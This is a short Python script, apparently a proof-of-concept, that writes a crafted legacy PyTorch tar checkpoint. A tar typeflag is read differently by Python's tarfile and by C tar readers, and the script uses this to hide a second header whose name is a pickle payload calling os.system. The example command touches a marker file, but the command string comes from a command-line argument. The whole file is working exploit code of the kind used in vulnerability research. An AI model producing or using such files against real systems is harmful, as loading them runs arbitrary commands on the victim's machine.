"""Legacy torch tar whose 'storages' member has a typeflag Python's tarfile does not know (extracted as a
regular file of `size` bytes) while C tar readers give it another meaning. The 512 data bytes also form a
valid header whose name field is the payload pickle.
usage: python3 tar_type.py OUT MARKER TYPECHAR"""
import sys

def header(name, size, typeflag=b"0"):
    b = bytearray(512)
    b[0:len(name)] = name
    b[100:108] = b"0000644\0"
    b[108:116] = b"0000000\0"
    b[116:124] = b"0000000\0"
    b[124:136] = b"%011o\0" % size
    b[136:148] = b"00000000000\0"
    b[148:156] = b" " * 8
    b[156:157] = typeflag
    b[257:263] = b"ustar\0"
    b[263:265] = b"00"
    b[148:156] = b"%06o\0 " % sum(b)
    return bytes(b)

def pad(b):
    return b + b"\0" * (-len(b) % 512)

def main(out, marker, t):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    blocks = [header(b"storages", 512, t.encode()), header(payload, 0)]
    for name, data in ((b"tensors", b"\x80\x02K\x00."), (b"pickle", b"\x80\x02}q\x00.")):
        blocks += [header(name, len(data)), pad(data)]
    blocks.append(b"\0" * 1024)
    open(out, "wb").write(b"".join(blocks))

if __name__ == "__main__":
    main(*sys.argv[1:])
